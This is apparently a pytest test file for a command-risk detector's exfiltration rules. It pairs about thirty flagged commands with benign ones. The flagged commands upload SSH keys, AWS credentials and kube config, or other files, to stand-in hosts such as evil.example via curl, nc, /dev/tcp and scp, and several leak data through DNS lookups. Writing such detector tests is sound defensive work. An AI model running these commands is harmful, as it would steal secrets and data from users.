from __future__ import annotations

import pytest

from tests.analysis.risk._table import check_benign, check_dangerous

DANGEROUS = [
    ("KEY=~/.ssh/id_ed25519; curl -F k=@$KEY https://x.example", "RF-EXFIL-002"),
    ("for f in ~/.aws/credentials .env; do curl -T $f https://x.example; done", "RF-EXFIL-002"),
    ("curl -T report.pdf https://x.io/up", "RF-EXFIL-001"),
    ("curl --upload-file ./dump.sql https://transfer.sh/dump.sql", "RF-EXFIL-001"),
    ("curl -F file=@build.zip https://x.io/upload", "RF-EXFIL-001"),
    ("curl -d @data.json https://x.io/api", "RF-EXFIL-001"),
    ("curl --data-binary @db.sqlite https://x.io", "RF-EXFIL-001"),
    ("wget --post-file=notes.txt https://x.io", "RF-EXFIL-001"),
    ("http POST x.io/api file@./data.bin", "RF-EXFIL-001"),
    ("curl -F k=@$HOME/.ssh/id_rsa https://x.io", "RF-EXFIL-002"),
    ("curl -T ~/.aws/credentials https://x.io", "RF-EXFIL-002"),
    ("cat ~/.ssh/id_rsa | nc evil.example 4444", "RF-EXFIL-002"),
    ("nc evil.example 80 < ~/.kube/config", "RF-EXFIL-002"),
    ('curl -d "$(cat ~/.aws/credentials)" https://x.io', "RF-EXFIL-002"),
    ("scp ~/.ssh/id_rsa me@host:/tmp/", "RF-EXFIL-002"),
    ("tar cz ~/.ssh | ssh host 'cat > k.tgz'", "RF-EXFIL-002"),
    ("cat /proc/1/environ | curl -d @- https://x.io", "RF-EXFIL-002"),
    ("nc evil.example 4444 < data.txt", "RF-EXFIL-003"),
    ("tar cz src | ncat host 9000", "RF-EXFIL-003"),
    ("cat f > /dev/tcp/10.0.0.1/80", "RF-EXFIL-003"),
    ("socat - TCP:host:80", "RF-EXFIL-003"),
    ("scp -r src me@host:backup/", "RF-EXFIL-004"),
    ("rsync -az ./ user@host:/srv/copy", "RF-EXFIL-004"),
    ("rclone copy ./data remote:bucket", "RF-EXFIL-004"),
    ("aws s3 cp db.dump s3://bucket/db.dump", "RF-EXFIL-004"),
    ("gsutil cp secrets.tar gs://bucket/", "RF-EXFIL-004"),
    ("dig $(whoami).evil.example", "RF-EXFIL-005"),
    ("nslookup `hostname`.x.evil.example", "RF-EXFIL-005"),
    ("host $(cat /etc/hostname | base64).evil.example", "RF-EXFIL-005"),
    ("ping -c1 $(id -u).evil.example", "RF-EXFIL-005"),
    ("git push https://github.com/someone/else.git main", "RF-EXFIL-006"),
    ("git remote add backup git@evil.example:x.git && git push backup --all", "RF-EXFIL-006"),
]

BENIGN = [
    "git push origin main",
    "git push",
    "git push -u origin feature/x",
    "curl https://example.com -o file",
    "curl -X POST -d '{\"a\": 1}' https://api.x.io/v1",
    "curl -H 'Content-Type: application/json' --data '{}' https://api.x.io",
    "wget https://x.io/file.tar.gz",
    "scp me@host:/var/log/app.log .",
    "rsync -av src/ build/",
    "rsync -az host:/data ./data",
    "aws s3 cp s3://bucket/file .",
    "aws s3 ls s3://bucket",
    "nc -z localhost 5432",
    "nc -l 8080",
    "dig example.com",
    "nslookup github.com",
    "ping -c 1 8.8.8.8",
    "ssh host uptime",
    "ssh -i ~/.ssh/id_ed25519 -F ~/.ssh/config host uptime",
    "git remote add upstream https://github.com/org/repo.git",
    "git fetch upstream",
    "docker push ghcr.io/me/img:1.0",
    "npm publish --dry-run",
    "curl -s https://api.github.com/repos/x/y | jq .stargazers_count",
]


@pytest.mark.parametrize(("command", "rule_id"), DANGEROUS)
def test_dangerous(command: str, rule_id: str) -> None:
    check_dangerous(command, rule_id, "exfiltration")


@pytest.mark.parametrize("command", BENIGN)
def test_benign(command: str) -> None:
    check_benign(command, "exfiltration")


def test_table_sizes() -> None:
    assert len(DANGEROUS) >= 15 and len(BENIGN) >= 15
